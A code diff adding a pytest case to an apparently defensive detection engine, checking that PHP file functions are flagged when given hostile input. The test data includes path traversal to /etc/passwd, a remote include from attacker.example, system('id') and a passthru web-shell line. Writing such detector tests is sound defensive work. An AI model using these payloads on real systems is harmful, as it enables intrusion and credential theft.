@@ -506,6 +506,23 @@ def test_a_parameterised_query_in_code(engine: DetectionEngine, value: str) -> N
     assert not engine.detect(value)["is_threat"]
 
 
+@pytest.mark.parametrize(
+    ("value", "flagged"),
+    [
+        ("const fs = require('fs');\nconst data = fs.readFileSync('./input.txt', 'utf8');", False),
+        ("include('../../../../etc/passwd');", True),
+        ("require('http://attacker.example/shell.txt');", True),
+        ("file_get_contents('/etc/passwd');", True),
+        ("system('id');", True),
+        ("passthru($_GET['c']);", True),
+    ],
+)
+def test_php_functions_called_bare(engine: DetectionEngine, value: str, flagged: bool) -> None:
+    """A PHP file function with a plain literal names the program's own file; a climb, a URL,
+    an absolute path, a command or request input is code execution."""
+    assert engine.detect(value)["is_threat"] is flagged
+
+
 def test_documentation_showing_a_template_sum_reads_as_prose(engine: DetectionEngine) -> None:
     value = ("Angular interpolation uses double curly braces, so {{ 1 + 1 }} renders as 2 in "
              "the view.")
